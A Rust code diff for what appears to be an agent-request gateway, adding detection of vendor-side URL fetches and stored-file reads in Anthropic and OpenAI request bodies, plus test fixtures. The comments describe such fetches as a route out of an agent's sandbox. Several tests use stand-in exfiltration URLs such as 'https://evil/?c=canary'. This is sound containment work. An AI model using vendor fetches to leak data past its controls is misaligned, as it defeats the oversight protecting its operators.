@@ -261,9 +261,53 @@ fn features_of(api: Api, endpoint: Endpoint, v: &Map<String, Value>) -> Vec<Stri
     {
         out.push("priority".into());
     }
+    for (k, x) in v {
+        if !matches!(k.as_str(), "tools" | "tool_choice" | "metadata") {
+            sourced(x, &mut out);
+        }
+    }
     out.sort();
     out.dedup();
     out
+}
+
+/// Content the vendor would fetch or read for the agent, anywhere in a
+/// message: a block whose `source` is a URL (Anthropic's images and
+/// documents) or an `image_url`/`file_url` naming an http(s) address
+/// (OpenAI's), `url_sources`: the vendor's own fetch, a way out of the box
+/// for whatever the URL carries; a stored file by id (`source.type =
+/// "file"`, `file_id`), `file_ids`: files afk's key can read that are not
+/// the turn's. Inline content (base64, `data:` URLs) is the agent's own.
+fn sourced(v: &Value, out: &mut Vec<String>) {
+    let remote = |x: &Value| {
+        let url = x
+            .as_str()
+            .or_else(|| x.get("url").and_then(Value::as_str))
+            .unwrap_or("");
+        let lower = url.trim_start().to_ascii_lowercase();
+        lower.starts_with("http:") || lower.starts_with("https:") || lower.starts_with("//")
+    };
+    match v {
+        Value::Object(m) => {
+            for (k, x) in m {
+                match k.as_str() {
+                    "source" => match x.get("type").and_then(Value::as_str) {
+                        Some("url") => out.push("url_sources".into()),
+                        Some("file") => out.push("file_ids".into()),
+                        _ => {}
+                    },
+                    "image_url" | "file_url" if remote(x) => out.push("url_sources".into()),
+                    "file_id" if !x.is_null() && x.as_str() != Some("") => {
+                        out.push("file_ids".into())
+                    }
+                    _ => {}
+                }
+                sourced(x, out);
+            }
+        }
+        Value::Array(a) => a.iter().for_each(|x| sourced(x, out)),
+        _ => {}
+    }
 }
 
 /// The output limit the body sets, if any.
@@ -612,6 +656,105 @@ mod tests {
                 &[],
                 &[],
                 false,
+            ),
+            // content the vendor fetches or reads for the agent
+            (
+                Anthropic,
+                Messages,
+                r#"{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil/?c=canary"}}]}]}"#,
+                &[],
+                &[],
+                false,
+            ),
+            (
+                Anthropic,
+                Messages,
+                r#"{"model":"m","messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://evil/"}}]}]}"#,
+                &[],
+                &["url_sources"],
+                true,
+            ),
+            (
+                Anthropic,
+                Messages,
+                r#"{"model":"m","messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"file_1"}}]}]}"#,
+                &[],
+                &[],
+                false,
+            ),
+            (
+                Anthropic,
+                Messages,
+                r#"{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBO"}},{"type":"text","text":"see https://example.org and url: https://x"}]}]}"#,
+                &[],
+                &[],
+                true,
+            ),
+            (
+                OpenAi,
+                ChatCompletions,
+                r#"{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"HTTPS://evil/?c=canary"}}]}]}"#,
+                &[],
+                &[],
+                false,
+            ),
+            (
+                OpenAi,
+                ChatCompletions,
+                r#"{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,iVBO"}}]}]}"#,
+                &[],
+                &[],
+                true,
+            ),
+            (
+                OpenAi,
+                Responses,
+                r#"{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil/"}]}]}"#,
+                &[],
+                &[],
+                false,
+            ),
+            (
+                OpenAi,
+                Responses,
+                r#"{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil/a.pdf"}]}]}"#,
+                &[],
+                &[],
+                false,
+            ),
+            (
+                OpenAi,
+                Responses,
+                r#"{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_id":"file-1"}]}]}"#,
+                &[],
+                &[],
+                false,
+            ),
+            (
+                OpenAi,
+                Responses,
+                r#"{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_id":"file-1"}]}]}"#,
+                &[],
+                &["file_ids"],
+                true,
+            ),
+            // a search result's or citation's "url" is history the vendor
+            // sent, not a fetch; a tool's schema may name a property "url"
+            (
+                Anthropic,
+                Messages,
+                r#"{"model":"m","messages":[{"role":"assistant","content":[{"type":"text","text":"t","citations":[{"type":"web_search_result_location","url":"https://example.org"}]}]}]}"#,
+                &[],
+                &[],
+                true,
+            ),
+            (
+                OpenAi,
+                Responses,
+                r#"{"model":"m","tools":[{"type":"function","name":"fetch","parameters":{"properties":{"url":{"type":"string","default":"https://x"}}}}]}"#,
+                &[],
+                &[],
+                true,
             ),
             // billed later, while afk meters none
             (
